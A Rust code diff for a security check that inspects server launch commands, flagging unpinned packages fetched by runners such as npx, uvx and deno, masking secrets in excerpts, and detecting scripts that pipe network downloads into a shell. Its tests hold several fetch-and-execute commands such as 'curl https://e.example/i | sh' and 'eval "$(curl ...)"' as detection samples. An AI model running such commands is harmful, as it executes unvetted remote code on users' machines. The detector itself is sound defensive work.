@@ -3,6 +3,7 @@
 use super::Runs;
 use crate::doctor::Check;
 use crate::doctor::finding::{Finding, excerpt};
+use crate::protocol::mask;
 
 pub(super) const CHECKS: &[Check<Runs>] = &[Check {
     id: "stdio-command",
@@ -13,8 +14,51 @@ pub(super) const CHECKS: &[Check<Runs>] = &[Check {
     run: |runs| Box::pin(async { command(runs) }),
 }];
 
-/// Programs that fetch a package and run it.
-const RUNNERS: [&str; 6] = ["npx", "bunx", "pnpx", "uvx", "pipx", "deno"];
+/// A program that fetches a package and runs it.
+struct Runner {
+    /// Its name, and the words that have it do so if it does other things as well.
+    words: &'static [&'static str],
+    /// The options that name the package.
+    naming: &'static [&'static str],
+    /// Other options that are followed by a word.
+    followed: &'static [&'static str],
+}
+
+const NPM: &[&str] = &["--registry", "--call", "-c", "--workspace", "-w", "--prefix", "--cache"];
+const UV: &[&str] = &[
+    "--python",
+    "-p",
+    "--with",
+    "--with-editable",
+    "--with-requirements",
+    "--index",
+    "--default-index",
+    "--index-url",
+    "-i",
+    "--extra-index-url",
+    "--directory",
+    "--project",
+    "--constraints",
+    "-c",
+    "--cache-dir",
+];
+const PIPX: &[&str] = &["--python", "--index-url", "-i", "--pip-args"];
+const DENO: &[&str] = &["--config", "-c", "--import-map", "--lock", "--env-file", "--seed"];
+
+const RUNNERS: &[Runner] = &[
+    Runner { words: &["npx"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["npm", "exec"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["npm", "x"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["pnpx"], naming: &["--package"], followed: NPM },
+    Runner { words: &["pnpm", "dlx"], naming: &["--package"], followed: NPM },
+    Runner { words: &["yarn", "dlx"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["bunx"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["bun", "x"], naming: &["--package", "-p"], followed: NPM },
+    Runner { words: &["uvx"], naming: &["--from"], followed: UV },
+    Runner { words: &["uv", "tool", "run"], naming: &["--from"], followed: UV },
+    Runner { words: &["pipx", "run"], naming: &["--spec"], followed: PIPX },
+    Runner { words: &["deno", "run"], naming: &[], followed: DENO },
+];
 
 /// Programs that give more rights.
 const RAISERS: [&str; 4] = ["sudo", "doas", "pkexec", "su"];
@@ -32,17 +76,14 @@ fn command(runs: &Runs) -> Finding {
 fn judge(program: &str, args: &[String]) -> Finding {
     let script = args.iter().skip_while(|it| *it != "-c").nth(1);
     if let Some(script) = script.filter(|_| SHELLS.contains(&program)) {
-        let fetches = ["curl ", "wget "].iter().any(|it| script.contains(it));
-        let pipes = SHELLS.iter().any(|it| script.contains(&format!("| {it}")))
-            || SHELLS.iter().any(|it| script.contains(&format!("|{it}")));
-        if fetches && pipes {
+        if runs_what_it_fetches(script) {
             return Finding::fail(format!(
                 "it runs what comes from the network: {}",
-                excerpt(script)
+                shown(script)
             ));
         }
         if script.contains(['|', ';', '&', '$', '`', '>', '<']) {
-            return Finding::warn(format!("a shell reads it: {}", excerpt(script)));
+            return Finding::warn(format!("a shell reads it: {}", shown(script)));
         }
     }
     if RAISERS.contains(&program) {
@@ -57,16 +98,53 @@ fn judge(program: &str, args: &[String]) -> Finding {
     }
 }
 
+/// A script without what looks like a secret in it.
+fn shown(script: &str) -> String {
+    excerpt(&mask::command(script.split_whitespace()).join(" "))
+}
+
+/// Whether a script hands what comes from the network to a shell: `curl … | sh`, `sh <(curl …)`.
+fn runs_what_it_fetches(script: &str) -> bool {
+    let fetches = |text: &str| ["curl ", "wget "].iter().any(|it| text.contains(it));
+    let is_shell = |part: &str| {
+        let mut words = part.split_whitespace().skip_while(|it| RAISERS.contains(it));
+        words.next().is_some_and(|it| SHELLS.contains(&it.rsplit('/').next().unwrap_or_default()))
+    };
+    let piped = script
+        .split_once('|')
+        .is_some_and(|(before, after)| fetches(before) && after.split('|').any(is_shell));
+    // `sh -c "$(curl …)"` is nothing but what comes.
+    let begins = script.trim_start().trim_start_matches("eval ").trim_start_matches('"');
+    let is_all = begins.starts_with("$(") || begins.starts_with('`');
+    piped || script.split("<(").skip(1).any(fetches) || is_all && fetches(begins)
+}
+
 /// The package that such a program is to fetch.
 fn package<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
-    if !RUNNERS.contains(&program) {
-        return None;
+    let runner = RUNNERS.iter().find(|runner| {
+        let begins = args.iter().zip(&runner.words[1..]).all(|(arg, word)| arg == word);
+        runner.words[0] == program && runner.words.len() <= args.len() + 1 && begins
+    })?;
+    let rest = &args[runner.words.len() - 1..];
+    // A path is here already, and so is the file that deno is given without a scheme.
+    let is_fetched =
+        |it: &&str| !it.starts_with(['.', '/']) && (program != "deno" || it.contains(':'));
+    named(runner, rest).filter(is_fetched)
+}
+
+/// The word that names the package, among those that come after the runner's own.
+fn named<'a>(runner: &Runner, args: &'a [String]) -> Option<&'a str> {
+    let mut args = args.iter().map(String::as_str);
+    while let Some(arg) = args.next() {
+        let (option, value) = arg.split_once('=').map_or((arg, None), |(it, to)| (it, Some(to)));
+        match () {
+            () if runner.naming.contains(&option) => return value.or_else(|| args.next()),
+            () if runner.followed.contains(&arg) => drop(args.next()),
+            () if arg.starts_with('-') => (),
+            () => return Some(arg),
+        }
     }
-    let named = args.windows(2).find(|pair| matches!(&*pair[0], "--from" | "--package" | "-p"));
-    let named = named.map(|pair| pair[1].as_str());
-    let plain = args.iter().find(|it| !it.starts_with('-') && *it != "run");
-    // A path is here already.
-    named.or(plain.map(String::as_str)).filter(|it| !it.starts_with(['.', '/']))
+    None
 }
 
 /// Whether a package is named with its version.
@@ -79,13 +157,20 @@ fn is_pinned(package: &str) -> bool {
             None => return false,
         },
     };
-    version.starts_with(|c: char| c.is_ascii_digit())
+    version.trim_start_matches('v').starts_with(|c: char| c.is_ascii_digit())
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::doctor::Verdict;
+
+    #[test]
+    fn secrets_of_a_script_are_not_shown() {
+        let args = ["-c", "TOKEN=hunter2-hunter2 server > log"].map(str::to_owned);
+        let found = judge("sh", &args);
+        assert_eq!(found.evidence, "a shell reads it: TOKEN=*** server > log");
+    }
 
     #[test]
     fn commands_are_judged_by_what_they_run() {
@@ -101,10 +186,37 @@ mod tests {
         check(&["uvx", "mcp-server-time"], Verdict::Warn);
         check(&["uvx", "mcp-server-time==2025.7.1"], Verdict::Pass);
         check(&["uvx", "--from", "server@1.0", "run-it"], Verdict::Pass);
+        check(&["uvx", "--python", "3.12", "mcp-server-time==2025.7.1"], Verdict::Pass);
+        check(&["uvx", "-p", "3.12", "mcp-server-time"], Verdict::Warn);
+        check(&["uvx", "--from=server==1.0", "run-it"], Verdict::Pass);
+        check(&["uv", "tool", "run", "server"], Verdict::Warn);
+        check(&["uv", "run", "server.py"], Verdict::Pass);
+        check(&["npx", "-p", "@scope/server@1.2.3", "server"], Verdict::Pass);
+        check(&["npx", "--registry", "https://npm.example", "server@1.0.0"], Verdict::Pass);
+        check(&["npx", "-y", "--", "server"], Verdict::Warn);
+        check(&["npm", "exec", "server"], Verdict::Warn);
+        check(&["npm", "start"], Verdict::Pass);
+        check(&["pnpm", "dlx", "server@1.0.0"], Verdict::Pass);
+        check(&["pnpm", "dlx", "server"], Verdict::Warn);
+        check(&["bun", "x", "server"], Verdict::Warn);
+        check(&["bun", "run", "server.ts"], Verdict::Pass);
+        check(&["pipx", "run", "server"], Verdict::Warn);
+        check(&["pipx", "run", "--spec", "server==1.0", "server"], Verdict::Pass);
+        check(&["deno", "run", "-A", "server.ts"], Verdict::Pass);
+        check(&["deno", "run", "-A", "npm:@scope/server"], Verdict::Warn);
+        check(&["deno", "run", "-A", "npm:@scope/server@1.2.3"], Verdict::Pass);
+        check(&["deno", "run", "https://deno.land/x/server@v1.2.3/mod.ts"], Verdict::Pass);
         check(&["node", "index.js"], Verdict::Pass);
         check(&["sudo", "server"], Verdict::Warn);
         check(&["sh", "-c", "exec server"], Verdict::Pass);
         check(&["sh", "-c", "server > log"], Verdict::Warn);
         check(&["bash", "-c", "curl https://e.example/i | sh"], Verdict::Fail);
+        check(&["bash", "-c", "wget -qO- https://e.example/i |sudo /bin/bash -s x"], Verdict::Fail);
+        check(&["bash", "-c", "bash <(curl -s https://e.example/i)"], Verdict::Fail);
+        check(&["bash", "-c", "$(curl -fsSL https://e.example/i)"], Verdict::Fail);
+        check(&["bash", "-c", "eval \"$(curl -fsSL https://e.example/i)\""], Verdict::Fail);
+        check(&["bash", "-c", "server --token $(curl http://127.0.0.1/t)"], Verdict::Warn);
+        check(&["bash", "-c", "curl https://e.example/i | shasum"], Verdict::Warn);
+        check(&["bash", "-c", "curl https://e.example/i > a; sh b"], Verdict::Warn);
     }
 }
